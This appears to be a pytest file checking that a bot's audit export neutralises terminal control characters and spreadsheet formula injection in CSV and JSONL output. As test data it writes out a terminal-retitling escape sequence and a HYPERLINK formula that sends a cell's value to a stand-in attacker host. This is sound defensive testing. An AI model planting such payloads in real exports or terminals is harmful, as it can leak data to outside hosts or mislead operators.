"""`python -m bot audit` under hostile text (#33.11): what programs and people wrote reaches an operator's
terminal and spreadsheet. Control characters (ESC and BEL that retitle a terminal, C1's CSI, DEL, a lone
CR) never come out raw, in either format; a CSV cell starting with a formula character opens as text. The command
runs in this process (`tests/support/cli.py`), its output read as the UTF-8 bytes a terminal gets."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import aiohttp
import pytest

from bot.devslack.server import SlackStandIn
from bot.report.audit_export import COLUMNS, safe_cell
from tests.conftest import ALICE, APPROVALS, CAROL, SALES, Worker
from tests.support.cli import bot_command
from tests.support.hitl import reject, until

RETITLE = "\x1b]0;pwned\x07"  # OSC 0: sets the terminal's title, ended by BEL
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x7f", "\r")  # ESC, BEL, C1 CSI, DEL, CR (a lone one moves the cursor)


async def audit_cli(*args: str, redis_url: str) -> tuple[int, bytes, str]:
    """`python -m bot audit *args`: its exit code, its output as UTF-8 bytes, what it said on standard error."""
    done = await bot_command("audit", *args, environ={"REDIS_URL": redis_url})
    return done.returncode, done.stdout.encode("utf-8"), done.stderr


async def api_call(worker: Worker, key: str, path: str, body: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
    async with aiohttp.ClientSession() as session, session.post(
        worker.url + path, data=json.dumps(body), headers=headers
    ) as response:
        return response.status, await response.json()


@pytest.mark.slow  # over 0.3 s of CPU (tests/support/slow.py)
async def test_the_audit_export_neutralises_control_characters_and_formulas(
    emailer: tuple[Worker, str], slack: SlackStandIn, redis_url: str
) -> None:
    worker, key = emailer
    # a program's record of a call it let through: its allow-list text lands in the `reason` column
    status, _ = await api_call(worker, key, "/api/v1/audit/allowed", {
        "tool": {"name": "list_inbox", "arguments": {"q": RETITLE + HYPERLINK}},
        "allowed_by": f"{RETITLE}--allow \x9b31mlist_*\x7f\r",
        "agent": RETITLE + "mailbox",
    })
    assert status == 201
    # asks whose title and arguments carry the same, each rejected by a reviewer whose reason is a formula
    reasons = [HYPERLINK, "+1", "-1", "@SUM(1+1)", f"{RETITLE}plain"]
    for n, reason in enumerate(reasons):
        ask = {"kind": "tool", "title": f"{RETITLE}{HYPERLINK}", "requester": ALICE, "channel": SALES,
               "tool": {"name": "send_email", "arguments": {"to": "+1", "subject": "-1", "body": RETITLE + "@SUM"}}}
        status, answer = await api_call(worker, key, "/api/v1/approvals", ask)
        assert status == 201, answer
        card = await until(lambda n=n: (cards := [m for m in slack.messages(APPROVALS) if not m.get("thread_ts")])
                           and len(cards) > n and cards[n], what=f"card {n + 1}")  # type: ignore[misc]
        submitted = await reject(slack, card, user=CAROL, reason=reason)
        assert submitted.status == 200

    async def decided() -> bool:
        entries = await worker.services.store.audit.entries()
        return len([e for e in entries if e["event"] == "decision"]) == len(reasons)

    await until(decided, what="every rejection audited")

    code, table, said = await audit_cli("--since", "1h", "--channel", SALES, "--format", "csv", redis_url=redis_url)
    assert code == 0, said
    for raw in RAW_CONTROLS:
        assert raw.encode() not in table.replace(b"\r\n", b"\n"), repr(raw)  # (the csv row ends are \r\n)
    rows = list(csv.DictReader(io.StringIO(table.decode("utf-8"), newline="")))
    assert list(rows[0]) == list(COLUMNS)  # the columns as before
    allowed = next(r for r in rows if r["event"] == "allowed")
    assert allowed["reason"] == "not asked: the allow-list of key emailer (␛]0;pwned␇--allow \ufffd31mlist_*␡␍)"
    feedback = [r["feedback"] for r in rows if r["event"] == "decision"]
    assert feedback == [
        "'" + HYPERLINK,
        "'+1",
        "'-1",
        "'@SUM(1+1)",
        "␛]0;pwned␇plain",
    ]
    assert all(r["by"] == CAROL and r["outcome"] == "rejected" for r in rows if r["event"] == "decision")

    code, lines, said = await audit_cli("--since", "1h", "--channel", SALES, "--format", "jsonl", redis_url=redis_url)
    assert code == 0, said
    for raw in RAW_CONTROLS:
        assert raw.encode() not in lines, repr(raw)
    entries = [json.loads(line) for line in lines.decode("utf-8").splitlines()]
    allowed_entry = next(e for e in entries if e["event"] == "allowed")  # JSON keeps the text as it was sent
    assert allowed_entry["agent"] == RETITLE + "mailbox"
    assert allowed_entry["rule"] == f"{RETITLE}--allow \x9b31mlist_*\x7f\r"
    assert [e["feedback"] for e in entries if e["event"] == "decision"] == reasons
    requested = [e for e in entries if e["event"] == "requested"]
    assert len(requested) == len(reasons)
    assert json.loads(requested[0]["arguments"]) == {"to": "+1", "subject": "-1", "body": RETITLE + "@SUM"}


def test_a_cell_is_made_safe_once_and_ordinary_text_is_left_alone() -> None:
    assert safe_cell("\tcmd") == "'\tcmd" and safe_cell("\rcmd") == "'␍cmd"  # OWASP: tab and CR lead formulas too
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-") == "'-" and safe_cell("@x") == "'@x"
    assert safe_cell("line one\nline two\tcolumn") == "line one\nline two\tcolumn"  # newlines and tabs within stay
    assert safe_cell("a\x00b\x1bc\x85d\x9fe\x7f") == "a␀b␛c\ufffdd\ufffde␡"
    assert safe_cell("") == "" and safe_cell("1700000000.5") == "1700000000.5" and safe_cell("café ✓") == "café ✓"
    assert safe_cell("'=already") == "'=already"
